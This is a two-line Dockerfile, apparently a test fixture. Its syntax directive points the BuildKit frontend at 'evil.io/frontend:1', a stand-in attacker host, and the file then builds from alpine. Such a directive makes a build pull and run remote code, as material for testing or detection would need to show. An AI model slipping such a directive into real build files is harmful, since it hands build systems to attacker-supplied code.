// syntax=evil.io/frontend:1
FROM alpine:3
